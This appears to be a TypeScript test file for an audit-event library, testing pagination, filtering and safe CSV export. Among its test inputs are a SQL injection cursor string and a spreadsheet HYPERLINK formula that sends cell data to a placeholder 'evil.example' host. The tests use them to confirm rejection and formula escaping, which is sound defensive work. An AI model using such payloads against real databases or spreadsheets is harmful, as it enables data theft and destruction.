import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import {
  type AuditEventInput,
  appendAuditEvents,
  exportAuditCsv,
  InvalidInputError,
  listAuditEvents,
  pageAuditEvents,
  verifyAuditChain,
} from "../src/index";
import { createTestDatabase, type TestDatabase } from "../src/testing";
import { ADMIN_AUDIT, APP_AUDIT } from "./fixtures";

setDefaultTimeout(30_000);

let handle: TestDatabase;
beforeAll(async () => {
  handle = await createTestDatabase();
  // 60 rows: every third one a barrier request of user-b, the rest intercom of user-a.
  const rows: AuditEventInput[] = Array.from({ length: 60 }, (_, i) => ({
    ...APP_AUDIT,
    kind: "partner.request",
    result: i % 10 === 0 ? "denied" : "pending",
    userId: i % 3 === 0 ? "user-b" : "user-a",
    partner: i % 3 === 0 ? "barrier" : "intercom",
    operation: i % 3 === 0 ? "barrier.open" : "intercom.open",
    target: i % 3 === 0 ? "gate-1" : "door-1",
  }));
  await appendAuditEvents(handle.db, rows);
});
afterAll(() => handle.close());

/** Every page from the newest to the oldest, then back again; the seqs seen each way. */
async function walk(filter: Parameters<typeof pageAuditEvents>[1]) {
  const forward: number[][] = [];
  let page = await pageAuditEvents(handle.db, filter);
  expect(page.prevCursor).toBeNull();
  forward.push(page.rows.map((row) => row.seq));
  while (page.nextCursor) {
    page = await pageAuditEvents(handle.db, { ...filter, cursor: page.nextCursor });
    forward.push(page.rows.map((row) => row.seq));
  }
  const back: number[][] = [page.rows.map((row) => row.seq)];
  while (page.prevCursor) {
    page = await pageAuditEvents(handle.db, { ...filter, cursor: page.prevCursor });
    back.unshift(page.rows.map((row) => row.seq));
  }
  return { forward, back };
}

describe("pageAuditEvents", () => {
  test("pages forward and back over the same rows, newest first, without gaps or repeats", async () => {
    const { forward, back } = await walk({ limit: 7 });
    const seqs = forward.flat();
    expect(seqs).toHaveLength(60);
    expect(new Set(seqs).size).toBe(60);
    expect(seqs).toEqual([...seqs].sort((a, b) => b - a));
    expect(forward.map((page) => page.length)).toEqual([7, 7, 7, 7, 7, 7, 7, 7, 4]);
    expect(back).toEqual(forward);
  });

  test("each filter, alone and together, pages only its own rows", async () => {
    const cases = [
      [{ userId: "user-b" }, 20],
      [{ partner: "barrier" as const }, 20],
      [{ operation: "intercom.open" as const }, 40],
      [{ target: "gate-1" }, 20],
      [{ result: "denied" }, 6],
      [{ kind: "partner.request" as const }, 60],
      [{ kind: "consent.grant" as const }, 0],
      [{ userId: "user-a", result: "denied" }, 4],
    ] as const;
    for (const [filter, expected] of cases) {
      const { forward, back } = await walk({ ...filter, limit: 3 });
      expect({ filter, rows: forward.flat().length }).toEqual({ filter, rows: expected });
      expect(back).toEqual(forward);
    }
    const { rows } = await pageAuditEvents(handle.db, { target: "gate-1", limit: 500 });
    expect(rows.every((row) => row.userId === "user-b" && row.partner === "barrier")).toBe(true);
  });

  test("a time range takes rows at or after `from` and before `to`", async () => {
    const { rows } = await pageAuditEvents(handle.db, { limit: 1 });
    const at = new Date(rows[0]?.at ?? "");
    expect((await pageAuditEvents(handle.db, { from: at, limit: 500 })).rows).toHaveLength(60);
    expect((await pageAuditEvents(handle.db, { to: at, limit: 500 })).rows).toHaveLength(0);
    const later = new Date(at.getTime() + 1);
    expect((await pageAuditEvents(handle.db, { from: later })).rows).toHaveLength(0);
  });

  test("a made-up cursor or a filter outside the vocabulary is INVALID_INPUT", async () => {
    for (const query of [
      { cursor: "before:0" },
      { cursor: "seq > 1; drop table audit_events" },
      { kind: "nothing.here" },
      { result: "Not A Result" },
      { limit: 501 },
      { sort: "asc" },
    ]) {
      await expect(pageAuditEvents(handle.db, query as never)).rejects.toBeInstanceOf(
        InvalidInputError,
      );
    }
  });
});

describe("exportAuditCsv", () => {
  /** One `admin.blocks.lift` row per reason, in order. */
  const appendLifts = (db: TestDatabase["db"], reasons: readonly string[]) =>
    appendAuditEvents(
      db,
      reasons.map((reason) => ({
        ...APP_AUDIT,
        actor: "adm_1",
        reason,
        kind: "admin.blocks.lift" as const,
        result: "ok",
        target: "blk_1",
      })),
    );

  test("the filtered rows as RFC 4180 CSV: quoted where a field holds a comma, quote or newline", async () => {
    const database = await createTestDatabase();
    try {
      const reasons = ['says "urgent", twice', "line one\nline two", "plain", "cr\r"];
      await appendLifts(database.db, reasons);
      await appendAuditEvents(database.db, [{ ...APP_AUDIT, kind: "partner.event", result: "ok" }]);
      const { csv, rows, truncated } = await exportAuditCsv(
        database.db,
        { kind: "admin.blocks.lift" },
        ADMIN_AUDIT,
      );
      expect({ rows, truncated }).toEqual({ rows: 4, truncated: false });
      const lines = csv.split("\r\n");
      expect(lines[0]).toBe(
        "seq,at,chain_id,chain_seq,id,kind,source_app,instance_id,client_ip,request_id,user_id," +
          "actor,operation,partner,purpose,target,attempt,result,error_code,http_status," +
          "latency_ms,call_id,reason,prev_hash,hash",
      );
      expect(csv.endsWith("\r\n")).toBe(true);
      expect(csv).toContain(',"says ""urgent"", twice",');
      expect(csv).toContain(',"line one\nline two",');
      expect(csv).toContain(',"cr\r",');
      expect(csv).toContain(",plain,");
      expect(csv).not.toContain("partner.event");
      const parsed = parseCsv(csv);
      expect(parsed).toHaveLength(5);
      expect(parsed.every((record) => record.length === 25)).toBe(true);
      expect(parsed.slice(1).map((record) => record[22])).toEqual([...reasons].reverse());
      const capped = await exportAuditCsv(
        database.db,
        { maxRows: 3, userId: "usr_whose", partner: "intercom" },
        ADMIN_AUDIT,
      );
      expect({ rows: capped.rows, truncated: capped.truncated }).toEqual({
        rows: 0,
        truncated: false,
      });
      const cut = await exportAuditCsv(database.db, { maxRows: 3 }, ADMIN_AUDIT);
      expect({ rows: cut.rows, truncated: cut.truncated }).toEqual({ rows: 3, truncated: true });
      // Each export is on the trail: who took it, about whom, whether it was cut; newest first.
      const exports = await listAuditEvents(database.db, { kind: "admin.audit.export" });
      expect(exports).toMatchObject([
        { actor: "adm_1", sourceApp: "admin", result: "truncated", userId: null, partner: null },
        { actor: "adm_1", result: "ok", userId: "usr_whose", partner: "intercom" },
        { actor: "adm_1", result: "ok", userId: null, target: null },
      ]);
      // An export's own row is not in it (the rows are read first).
      expect(csv).not.toContain("admin.audit.export");
      expect(await verifyAuditChain(database.db)).toMatchObject({ ok: true, count: 8 });
    } finally {
      await database.close();
    }
  });

  test("text a spreadsheet would run as a formula is written as text ('-prefixed, quoted)", async () => {
    const database = await createTestDatabase();
    try {
      const reasons = [
        '=HYPERLINK("https://evil.example/?"&A1,"open")',
        "+1+2",
        "-2+3",
        "@SUM(A1:A9)",
        "\tcmd",
        "a = b, not a formula",
      ];
      await appendLifts(database.db, reasons);
      const { csv } = await exportAuditCsv(database.db, { kind: "admin.blocks.lift" }, ADMIN_AUDIT);
      expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""open"")",`);
      expect(csv).toContain(`,"'+1+2",`);
      expect(csv).toContain(`,"'@SUM(A1:A9)",`);
      const parsed = parseCsv(csv).slice(1);
      // No field of any row starts a formula; each reason reads back behind its one quote.
      for (const record of parsed)
        for (const field of record) expect(field).not.toMatch(/^[=+\-@\t\r]/);
      expect(parsed.map((record) => record[22])).toEqual(
        [...reasons].reverse().map((reason) => (/^[=+\-@\t]/.test(reason) ? `'${reason}` : reason)),
      );
      // Numbers stay numbers.
      expect(parsed[0]?.[0]).toMatch(/^\d+$/);
    } finally {
      await database.close();
    }
  });
});

/** A strict RFC 4180 reader, to check the export reads back field for field. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = "";
    if (text[i] === '"') {
      i++;
      for (;;) {
        const quote = text.indexOf('"', i);
        if (quote < 0) throw new Error("unterminated quoted field");
        field += text.slice(i, quote);
        i = quote + 1;
        if (text[i] !== '"') break;
        field += '"';
        i++;
      }
    } else {
      while (i < text.length && text[i] !== "," && text[i] !== "\r") field += text[i++];
    }
    record.push(field);
    if (text[i] === ",") i++;
    else if (text.startsWith("\r\n", i)) {
      i += 2;
      records.push(record);
      record = [];
    } else throw new Error(`unexpected character at ${i}`);
  }
  return records;
}
